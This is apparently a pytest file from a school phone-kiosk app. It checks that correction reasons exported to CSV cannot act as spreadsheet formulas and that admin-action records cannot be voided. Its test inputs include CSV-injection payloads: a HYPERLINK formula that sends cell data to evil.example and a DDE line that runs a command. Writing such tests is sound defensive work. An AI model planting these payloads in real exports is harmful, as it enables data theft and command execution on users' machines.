"""Office red-team round 14: what the office reads and exports is the truth of the record, and
hostile text in it hurts no one (exports, labels, e-mails, the CLI)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest

from kiosk.config import Settings
from kiosk.db.engine import make_engine
from kiosk.services.app import Services
from tests.conftest import FakeClock
from tests.school import make_school

# A cell a spreadsheet can take for a formula: the ASCII starts, their full-width forms (a
# spreadsheet in a Japanese or Chinese locale reads U+FF1D as =), and the ASCII starts behind spaces
# (LibreOffice's "trim spaces" import option takes them off first).
FORMULAS = [
    '\uff1dHYPERLINK("http://evil.example/"&A1,"Click")',
    "\uff0b1+cmd|' /C calc'!A0",
    "\uff0d2+3",
    "\uff20SUM(A1:A9)",
    "  =1+1",
    "\u3000=1+1",
]


@pytest.fixture
def school(db_url: str) -> Iterator[Services]:
    services = Services(make_engine(db_url), Settings(database_url=db_url), FakeClock())
    make_school(services)
    yield services
    services.close()


def _cells(text: str) -> list[str]:
    return [cell for line in csv.reader(io.StringIO(text)) for cell in line]


def _formula_like(cell: str) -> bool:
    import unicodedata

    start = unicodedata.normalize("NFKC", cell).lstrip()
    return start.startswith(("=", "+", "-", "@")) or cell.startswith(("\t", "\r", "\n"))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_correction_reason_in_full_width_is_no_formula_in_the_register_csv(
    school: Services, text: str
) -> None:
    """A correction's reason is free text typed at the console: a full-width U+FF1D (or a formula
    behind spaces) came out of the register CSV as written, a live formula in a spreadsheet
    whose locale reads U+FF1D as =. Now it is prefixed with ' like any formula."""
    deposit = school.phones.deposit("BJONES")
    school.register.void(deposit.event_id, reason=text, admin_code="DOFFICE")
    out = io.StringIO()
    school.register.export_csv(out, deposit.occurred_at.date())
    cells = _cells(out.getvalue())
    risky = [cell for cell in cells if _formula_like(cell)]
    assert risky == []
    assert any(cell.startswith("'") and text.strip() in cell for cell in cells)


# --- a correction voids a mistake at the kiosk, never a record of what the office did ----------


def test_a_list_change_or_an_admin_record_cannot_be_voided(school: Services) -> None:
    """An admin could "correct" the record of a list change (a store, a member of staff added),
    an admin action (an export, a policy published), a lockout or a calendar setting: the
    register and its CSV then said "voided" while the change stood (the store and the person
    were still there, the lockout still reported), and an admin could strike out the record
    of their own actions. Now the console and the service refuse, saying why; nothing is
    recorded, and the event is shown as it was."""
    from kiosk.domain.errors import RuleViolation

    day = school.ctx.clock().date()
    rows = school.register.day(day).rows
    office = {r.kind: r.event_id for r in rows if r.kind in ("reference_changed", "admin_action")}
    assert set(office) == {"reference_changed", "admin_action"}
    before = school.register.last_event_id()
    for kind, event_id in office.items():
        with pytest.raises(RuleViolation, match="cannot be voided") as caught:
            school.register.void(event_id, reason="hide it", admin_code="DOFFICE")
        assert "change it again" in str(caught.value) or "record" in str(caught.value), kind
    assert school.register.last_event_id() == before
    assert not any(r.voided for r in school.register.day(day).rows)
    # A mistake at the kiosk is still corrected as before.
    deposit = school.phones.deposit("BJONES")
    school.register.void(deposit.event_id, reason="wrong badge", admin_code="DOFFICE")
    assert next(r for r in school.register.day(day).rows if r.event_id == deposit.event_id).voided
